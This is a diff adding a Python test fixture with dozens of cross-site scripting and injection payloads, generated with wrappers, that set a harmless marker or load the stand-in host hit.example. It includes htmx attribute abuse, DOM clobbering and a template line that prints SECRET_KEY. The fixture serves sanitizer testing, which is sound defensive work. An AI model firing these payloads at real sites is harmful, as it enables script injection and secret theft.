@@ -1,0 +1,88 @@
+"""Texts that try to act: what somebody might write into any field of the portal. Each would set window.__hit, or load HIT."""
+
+from __future__ import annotations
+
+HIT = "https://hit.example/x"
+RUN = "window.__hit=1"
+
+BASES = [
+    f"<script>{RUN}</script>",
+    f"<ScRiPt>{RUN}</sCrIpT>",
+    f"<script src={HIT}></script>",
+    f"<img src=x onerror={RUN}>",
+    f"<img src='{HIT}'>",
+    f'<IMG SRC="{HIT}" loading=eager>',
+    f"<svg onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<svg><image href='{HIT}'/></svg>",
+    f"<svg><use href='{HIT}#a'/></svg>",
+    f"<svg><style>@import '{HIT}';</style></svg>",
+    f"<math><mtext></p><img src=x onerror={RUN}></mtext></math>",
+    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}>",
+    f"<body onload={RUN}>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    f"<iframe src='javascript:{RUN}'></iframe>",
+    f"<object data='{HIT}'></object>",
+    f"<embed src='{HIT}'>",
+    f"<video src='{HIT}' autoplay onloadstart={RUN}></video>",
+    f"<audio src=x onerror={RUN}></audio>",
+    f"<details open ontoggle={RUN}>x</details>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<select autofocus onfocus={RUN}></select>",
+    f"<marquee onstart={RUN}>x</marquee>",
+    f"<style>@import '{HIT}'</style>",
+    f"<style>*{{background:url({HIT})}}</style>",
+    f"<link rel=stylesheet href='{HIT}'>",
+    f"<link rel=prefetch href='{HIT}'>",
+    f"<meta http-equiv=refresh content='0;url={HIT}'>",
+    '<meta name=htmx-config content=\'{"allowEval":true,"selfRequestsOnly":false}\'>',
+    "<base href='https://hit.example/'>",
+    f"<form action='{HIT}'><button autofocus>x</button></form>",
+    "<form id=filters><input name=attributes></form>",
+    "<a id=htmx></a><a id=htmx name=config href='x:y'></a>",
+    "<img name=getElementById><img name=cookie><form name=body>",
+    "<div id=main>x</div><div id=dialogue>y</div><p id=found>z</p>",
+    "<div hx-get=/healthz?hit hx-trigger=load>x</div>",
+    "<div data-hx-get=/healthz?hit data-hx-trigger=load>x</div>",
+    "<div hx-post=/notes/seen/ hx-trigger='load delay:1ms'>x</div>",
+    f"<div hx-on::load='{RUN}'>x</div>",
+    f"<div data-hx-on:click='{RUN}' hx-on='htmx:load: {RUN}'>x</div>",
+    "<div hx-boost=true><a href=/healthz?hit autofocus>x</a></div>",
+    f"<p data-draft=x data-count data-longest=1 class=voice style='background:url({HIT})'>x</p>",
+    f"[x](javascript:{RUN})",
+    f"[x](JaVaScRiPt:{RUN})",
+    f"[x](&#x6A;avascript:{RUN})",
+    f"[x](java\tscript:{RUN})",
+    "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19oaXQ9MTwvc2NyaXB0Pg==)",
+    f"[x](vbscript:{RUN})",
+    f"<javascript:{RUN}>",
+    f"![x]({HIT})",
+    f'![x]({HIT} "onerror={RUN}")',
+    f"[x]({HIT} \"' onmouseover={RUN} '\")",
+    f"[x]: javascript:{RUN}\n\n[x]",
+    f"[x][y]\n\n[y]: <javascript:{RUN}>",
+    f"| <img src=x onerror={RUN}> | b |\n| - | - |\n| <svg onload={RUN}> | d |",
+    f"&lt;img src=x onerror={RUN}&gt;",
+    f"&#60;script&#62;{RUN}&#60;/script&#62;",
+    f"\\<img src=x onerror={RUN}\\>",
+    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
+    f"<!--><img src=x onerror={RUN}>-->",
+    f"<![CDATA[><img src=x onerror={RUN}>]]>",
+    f"\x02<img src=x onerror={RUN}>\x03",
+    "{% debug %}{{ settings.SECRET_KEY }}{% load static %}",
+]
+
+WRAPPERS = [
+    "{}",
+    "hit {} hit",
+    "> {}\n> - {}",
+    "</div></div></blockquote></article></section>{}",
+    "</textarea></form></template></title>{}",
+    '"><b {}',
+    "'>`{}`\n\n```\n{}\n```",
+]
+
+
+def payloads() -> list[str]:
+    return [f"hit {wrapper.replace('{}', base)}" for base in BASES for wrapper in WRAPPERS]
